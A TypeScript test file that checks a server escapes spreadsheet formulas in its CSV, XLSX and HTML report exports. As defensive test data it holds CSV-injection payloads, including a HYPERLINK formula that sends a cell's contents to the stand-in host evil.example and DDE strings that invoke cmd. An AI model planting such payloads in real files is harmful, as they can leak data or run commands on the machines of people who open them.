/**
 * Formulas that came in with a file never run in a file that goes out: a station's attendance
 * annex whose 岗位 cells are spreadsheet formulas, and a station named like one, read back from
 * every export the server writes (CSV, XLSX, the printable report).
 */
import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { inertCell } from '../../server/export/write.ts';
import { csvOf } from '../helpers/files.ts';
import { officialTable, plainTable, textOf } from '../helpers/officialTables.ts';
import { startTestServer, type TestServer } from '../helpers/server.ts';

/** The payloads a station sent (OWASP's CSV-injection examples). */
const payloads = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
];

const IMPORT = `mutation($input: ImportTableInput!) { importTable(input: $input) { ok applied staffCount } }`;
const FILE = `query($s: String!, $y: Int!, $l: TableLayout!, $f: FileFormat!) {
  tableFile(stationCode: $s, year: $y, layout: $l, format: $f) { base64 }
}`;

let server: TestServer;

async function file(station: string, year: number, layout: string, format: 'CSV' | 'XLSX') {
  const res = await server.query<{ tableFile: { base64: string } }>(FILE, {
    s: station,
    y: year,
    l: layout,
    f: format,
  });
  return Buffer.from(res.data?.tableFile.base64 ?? '', 'base64');
}

const csvCells = (bytes: Buffer) =>
  (parse(bytes, { bom: true, relax_column_count: true }) as string[][]).flat();

async function xlsxCells(bytes: Buffer) {
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(bytes as unknown as ArrayBuffer);
  const cells: ExcelJS.Cell[] = [];
  book.worksheets[0]?.eachRow((row) => row.eachCell((cell) => cells.push(cell)));
  return cells;
}

beforeAll(async () => {
  server = await startTestServer();
  const annex = [
    ['附件2 人员考勤表'],
    ['序号', '姓名', '岗位', '合同期限', '2023年6月', null, null],
    [null, null, null, null, '人员', '社保', '工资'],
    ...payloads.map((position, i) => [
      i + 1,
      `测试员${i + 1}`,
      position,
      '2023.6.1-2024.5.30',
      '√',
      '√',
      '√',
    ]),
  ];
  const res = await server.query<{ importTable: { ok: boolean; applied: boolean; staffCount: number } }>(
    IMPORT,
    {
      input: {
        stationCode: 'haizhu-chigang',
        year: 2023,
        fileName: '附件2.csv',
        contentBase64: csvOf(annex).toString('base64'),
        dryRun: false,
        keepNames: true,
      },
    },
  );
  expect(res.data?.importTable).toMatchObject({ ok: true, applied: true, staffCount: 4 });
  await server.query('mutation($i: StationInput!) { addStation(input: $i) { code } }', {
    i: {
      districtCode: 'haizhu',
      code: 'haizhu-formula',
      nameZh: payloads[0],
      nameEn: payloads[3],
      streetZh: '公式街',
    },
  });
  const { rows } = officialTable(plainTable({ seed: 3 }));
  await server.query(IMPORT, {
    input: {
      stationCode: 'haizhu-formula',
      year: 2025,
      fileName: '附件1.csv',
      contentBase64: textOf(rows).toString('base64'),
      dryRun: false,
      createContract: true,
    },
  });
});
afterAll(() => server.close());

describe('formulas in exports', () => {
  it('text that starts like a formula gets an apostrophe in CSV; numbers, and numbers as text, do not', () => {
    for (const p of payloads) expect(inertCell(p)).toBe(`'${p}`);
    expect(inertCell('\t=1+1')).toBe("'\t=1+1");
    expect(inertCell('\r=1+1')).toBe("'\r=1+1");
    expect(inertCell(-12)).toBe(-12);
    expect(inertCell('-12')).toBe('-12');
    expect(inertCell('-2,000.50')).toBe('-2,000.50');
    expect(inertCell('+3.5%')).toBe('+3.5%');
    expect(inertCell('片区1')).toBe('片区1');
    // What a spreadsheet may skip or fold first: NUL, a zero-width space, full-width signs.
    for (const p of ['\u0000=HYPERLINK("x")', '\u200b=1+1', '＝HYPERLINK("x")', '＋cmd', '\ufeff@SUM(1)'])
      expect(inertCell(p)).toBe(`'${p}`);
  });

  it('the attendance annex as CSV: every payload inert, read back the same by the importer', async () => {
    const bytes = await file('haizhu-chigang', 2023, 'ATTENDANCE', 'CSV');
    const cells = csvCells(bytes);
    for (const p of payloads) {
      expect(cells).toContain(`'${p}`);
      expect(cells).not.toContain(p);
    }
    const again = await server.query<{ importTable: { ok: boolean } }>(
      `mutation($input: ImportTableInput!) { importTable(input: $input) { ok values(limit: 1) { row } } }`,
      {
        input: {
          stationCode: 'haizhu-chigang',
          year: 2023,
          fileName: 'back.csv',
          contentBase64: bytes.toString('base64'),
        },
      },
    );
    expect(again.data?.importTable.ok).toBe(true);
    const positions = await server.sql<{ position: string }>(
      `select distinct position from staff where position like '%cmd%' or position like '=%'`,
    );
    expect(positions.map((p) => p.position).sort()).toEqual([...payloads].sort());
  });

  it('the attendance annex as XLSX: the payloads are text cells, never formulas', async () => {
    const cells = await xlsxCells(await file('haizhu-chigang', 2023, 'ATTENDANCE', 'XLSX'));
    const held = cells.filter((c) => payloads.includes(String(c.value)));
    expect(held).toHaveLength(payloads.length);
    for (const c of held) expect(c.type).toBe(ExcelJS.ValueType.String);
    expect(cells.some((c) => c.type === ExcelJS.ValueType.Formula)).toBe(false);
  });

  it("a station named like a formula: its tables' titles are inert in CSV and text in XLSX; the report escapes it", async () => {
    for (const layout of ['WIDE', 'LONG']) {
      const csv = csvCells(await file('haizhu-formula', 2025, layout, 'CSV'));
      expect(csv.filter((c) => c.includes('HYPERLINK')).every((c) => c.startsWith("'"))).toBe(true);
      const xlsx = await xlsxCells(await file('haizhu-formula', 2025, layout, 'XLSX'));
      expect(xlsx.some((c) => c.type === ExcelJS.ValueType.Formula)).toBe(false);
    }
    const report = await server.query<{ station: { contract: { reportFile: { base64: string } } } }>(
      '{ station(code: "haizhu-formula") { contract(year: 2025) { reportFile(lang: "zh") { base64 } } } }',
    );
    const html = Buffer.from(report.data?.station.contract.reportFile.base64 ?? '', 'base64').toString(
      'utf8',
    );
    expect(html).toContain('=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1,&quot;click&quot;)');
    expect(html).not.toContain('"http://evil.example');
  });
});
